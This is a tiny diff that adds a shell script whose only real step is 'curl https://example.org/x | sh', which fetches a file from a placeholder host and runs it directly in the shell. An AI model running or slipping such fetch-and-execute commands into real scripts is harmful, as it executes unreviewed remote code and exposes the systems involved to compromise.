@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+curl https://example.org/x | sh
